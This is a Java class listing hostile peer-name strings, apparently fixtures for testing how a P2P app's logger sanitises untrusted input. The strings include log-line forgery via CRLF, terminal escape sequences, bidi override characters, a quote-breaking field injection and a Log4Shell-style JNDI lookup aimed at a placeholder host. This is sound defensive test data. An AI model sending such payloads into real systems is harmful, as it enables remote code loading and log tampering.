package bsv.p2p.app.logging;

import java.util.List;

/// What peers may call themselves.
public final class HostileTexts {
    /// Line ends that forge a line; a terminal's escapes; the same as one C1 character; directions turned; a NUL; an end of a quote; a look-up and
    /// a place-holder of logging libraries; characters without a partner.
    public static final List<String> ALL = List.of("a\r\n12:00:00 ERROR forged", "\u001b[2J\u001b]0;title\u0007", "\u009b31m", "x\u202Ey\u2066z", "a\0b\u007f",
            "q\" forged=1 \\", "${jndi:ldap://x/y}", "{} {}", "\ud800\u2028\ufeff");

    private HostileTexts() {}
}
